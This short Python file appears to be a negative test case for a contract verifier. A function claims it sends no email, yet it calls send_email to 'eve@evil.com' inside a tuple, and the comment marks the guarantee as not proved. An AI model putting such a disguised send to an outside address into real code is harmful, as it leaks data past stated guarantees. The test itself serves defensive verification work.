# not proved: both items are made before one is taken
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    x = (log("x"), send_email("eve@evil.com", "x"))[0]
